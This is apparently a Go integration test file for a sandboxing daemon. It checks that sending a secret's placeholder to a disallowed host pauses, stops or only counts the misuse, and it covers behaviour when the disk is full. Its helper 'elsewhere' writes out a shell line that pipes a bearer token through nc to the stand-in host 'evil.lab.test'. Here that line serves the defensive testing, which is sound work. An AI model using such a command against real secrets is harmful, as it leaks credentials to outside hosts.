package test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/useshards/shard"
	"github.com/useshards/shard/internal/testenv"
)

// elsewhere is a script that sends the placeholder of a secret where its value must not go, in the clear.
func elsewhere(name string) string {
	return `printf 'GET /seen HTTP/1.1\r\nHost: evil.lab.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$` + name + `" | nc -w 20 ` + testenv.LabWebAddr + ` 80 >/dev/null`
}

// misuse does that once, whatever becomes of the sandbox.
func misuse(t *testing.T, d *testenv.Daemon, id, name string) {
	t.Helper()
	d.Shard("exec", id, "sh", "-c", elsewhere(name))
}

// misuses is how often a secret was misused, as the record says.
func misuses(t *testing.T, d *testenv.Daemon, id, name string) (n int64) {
	t.Helper()
	for _, m := range inspect(t, d, id).Misuses {
		if m.Secret == name {
			if m.Host != "evil.lab.test" || m.Reason == "" || m.LastAt.IsZero() {
				t.Errorf("the record of a misuse: %+v", m)
			}
			n = m.Count
		}
	}
	return n
}

// countsOn runs a program that counts, and returns what waits until it counts on.
func countsOn(t *testing.T, d *testenv.Daemon, id string) (on func(when string)) {
	t.Helper()
	c := connect(t, d)
	mustRun(t, c, id, runs("count", "", "sh", "-c", "i=0; while :; do echo $i; i=$((i+1)); sleep 0.05; done"))
	last := 0
	return func(when string) {
		t.Helper()
		testenv.Eventually(t, when+" the program counts on", func() (bool, string) {
			n, err := counted(logOf(t, c, id, "count"))
			if err != nil || n <= last {
				return false, fmt.Sprintf("%d, %v", n, err)
			}
			last = n + 1
			return true, ""
		})
	}
}

// TestMisusePauses: a placeholder that is sent elsewhere pauses its sandbox, when its secret says so. Resumed it goes on, and what it
// did before does not pause it again; the next misuse does, also right behind the resume, of a program that tries again and again.
func TestMisusePauses(t *testing.T) {
	t.Parallel()
	d := labDaemon(t, testenv.Options{})
	importTrusting(t, d)
	got := &seen{}
	d.Lab().Web().Handle("/seen", got)
	eachPausing(t, d, func(t *testing.T, d *testenv.Daemon, provider string) {
		c := connect(t, d)
		name := "TOKEN_" + strings.ToUpper(provider)
		setSecret(t, d, "the-value", "--dest", "dest.lab.test", "--on-misuse", "pause", name)
		id, other := box(t, d, provider, "--secret", name, trusting), box(t, d, provider, "--secret", name, trusting)
		on := countsOn(t, d, id)
		on("at first")
		paused := func(times int64) {
			t.Helper()
			testenv.Eventually(t, "the misuse pauses the sandbox", func() (bool, string) {
				in := inspect(t, d, id)
				return in.State == shard.StatePaused, fmt.Sprintf("%+v", in)
			})
			refused(t, d.Shard("exec", id, "true"), "paused", name, "evil.lab.test")
			if list := d.Must("list"); !strings.Contains(list, "paused (the placeholder") {
				t.Errorf("the list does not say why: %s", list)
			}
			if n := misuses(t, d, id, name); n < times {
				t.Errorf("%d misuses are recorded, want at least %d", n, times)
			}
		}
		for round := range 2 {
			misuse(t, d, id, name)
			paused(int64(round) + 1)
			if round == 1 {
				d.Stop()
				d.Restart()
				paused(2)
			}
			before := misuses(t, d, id, name)
			resume(t, c, id)
			on("resumed")
			// At least one more look at what sandboxes tried.
			for end := time.Now().Add(1500 * time.Millisecond); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
				if in := inspect(t, d, id); in.State != shard.StateRunning {
					t.Fatalf("round %d: what it had done before paused it again: %+v", round, in)
				}
			}
			if n := misuses(t, d, id, name); n != before {
				t.Errorf("round %d: %d misuses, %d before the resume", round, n, before)
			}
			on("later")
			if round == 0 {
				sh(t, d, id, elsewhere("HOME")) // what may be sent there is no misuse
			}
		}
		if in := inspect(t, d, other); in.State != shard.StateRunning || len(in.Misuses) > 0 {
			t.Errorf("another sandbox with the secret is %+v", in)
		}

		// A program that does nothing else is paused after each resume, and answers to every verb.
		mustRun(t, c, id, runs("again", "", "sh", "-c", "while :; do "+elsewhere(name)+"; sleep 0.05; done"))
		paused(3)
		for range 2 {
			before := misuses(t, d, id, name)
			resume(t, c, id)
			paused(before + 1)
		}
		d.Must("stop", id)
		if in := inspect(t, d, id); in.State != shard.StateStopped || in.StoppedReason != "" {
			t.Errorf("stopped by a client: %+v", in)
		}

		// The other ways, set anew: none counts only, stop stops and says why.
		setSecret(t, d, "the-value", "--dest", "dest.lab.test", "--on-misuse", "none", name)
		misuse(t, d, other, name)
		testenv.Eventually(t, "the misuse is counted", func() (bool, string) { return misuses(t, d, other, name) == 1, "" })
		if s := state(t, d, other); s != shard.StateRunning {
			t.Errorf("a misuse that is only counted left it %s", s)
		}
		setSecret(t, d, "the-value", "--dest", "dest.lab.test", "--on-misuse", "stop", name)
		misuse(t, d, other, name)
		testenv.Eventually(t, "the misuse stops the sandbox", func() (bool, string) {
			in := inspect(t, d, other)
			return in.State == shard.StateStopped && strings.Contains(in.StoppedReason, name) && strings.Contains(in.StoppedReason, "evil.lab.test"), fmt.Sprintf("%+v", in)
		})
		for _, header := range got.all() {
			if strings.Contains(header, "the-value") {
				t.Errorf("the value went out: %s", header)
			}
		}
	})
}

// TestMisuseWithoutRoom: a sandbox that a misuse is to pause, and that cannot be, since the host's disk is full, is stopped instead. A
// pause that a client asks for says why it fails, and the sandbox runs on.
func TestMisuseWithoutRoom(t *testing.T) {
	t.Parallel()
	d := labDaemon(t, testenv.Options{Root: smallDisk(t, "400M")})
	importTrusting(t, d)
	d.Lab().Web().Handle("/seen", &seen{})
	eachPausing(t, d, func(t *testing.T, d *testenv.Daemon, provider string) {
		c := connect(t, d)
		name := "TOKEN_" + strings.ToUpper(provider)
		setSecret(t, d, "the-value", "--dest", "dest.lab.test", "--on-misuse", "pause", name)
		id := box(t, d, provider, "--secret", name, "--disk", "32MiB", "--port", "18140:80", trusting)
		on := countsOn(t, d, id)
		// As much in memory as there is no room for.
		sh(t, d, id, "mkfifo /hold; (x=$(head -c 25165824 /dev/zero | tr '\\0' x); echo ok >/hold; sleep 6000; echo ${#x}) </dev/null >/dev/null 2>&1 & cat /hold")
		held := run(t, d, id, shard.ExecRequest{Command: script("trap 'echo went on' USR1; while :; do sleep 0.1; done"), TTY: true})
		// The disk is full but for what records and the like need.
		ballast := filepath.Join(filepath.Dir(d.Root), "ballast")
		host(t, "dd", "if=/dev/zero", "of="+ballast, "bs=1M", "count=10")
		empty := fill(t, d.Root)
		defer empty()
		if err := os.Remove(ballast); err != nil {
			t.Fatal(err)
		}

		watch := socket(t, d, id, "/root")
		follow, err := c.FollowEgressLog(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = follow.Close() }()
		refused(t, d.Shard("pause", id), "no room", "runs on")
		if in := inspect(t, d, id); in.State != shard.StateRunning || exists(t, checkpointOf(d, id)) {
			t.Errorf("after a pause without room: %+v", in)
		}
		on("after a pause that failed")
		sh(t, d, id, "echo >/root/new")
		if _, event, err := watch.Read(t.Context()); err != nil || !strings.Contains(string(event), shard.FileOverflow) && !strings.Contains(string(event), "/root/new") {
			t.Errorf("a watch over a pause that failed: %s, %v", event, err)
		}
		sh(t, d, id, elsewhere("HOME"))
		if one, err := follow.Next(); err != nil || one.Host != "evil.lab.test" {
			t.Errorf("who follows the decisions, after a pause that failed: %+v, %v", one, err)
		}
		s := open(t, d, id, held)
		sh(t, d, id, "kill -USR1 $(ps -o pid,args | awk '/went[ ]on/ {print $1; exit}')")
		s.until("went on")

		misuse(t, d, id, name)
		testenv.Eventually(t, "it is stopped instead", func() (bool, string) {
			in := inspect(t, d, id)
			return in.State == shard.StateStopped && strings.Contains(in.StoppedReason, name) && strings.Contains(in.StoppedReason, "could not be paused"), fmt.Sprintf("%+v", in)
		})
		if exists(t, checkpointOf(d, id)) {
			t.Error("something of its memory is left")
		}
		empty()
		d.Must("start", id)
		pause(t, c, id)
		resume(t, c, id)
		inState(t, c, id, "count", shard.ProcessRunning)
	})
}
